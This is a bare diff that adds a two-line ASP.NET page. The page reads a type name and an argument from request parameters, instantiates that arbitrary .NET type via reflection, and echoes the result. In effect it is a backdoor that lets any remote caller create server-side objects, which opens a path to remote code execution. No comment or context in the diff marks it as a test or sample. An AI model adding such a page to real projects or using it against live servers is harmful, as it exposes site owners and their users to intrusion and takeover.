@@ -1,0 +1,2 @@
+<%@ Page Language="C#" %>
+<% object o = Activator.CreateInstance(Type.GetType(Request["t"]), Request["a"]); Response.Write(o); %>
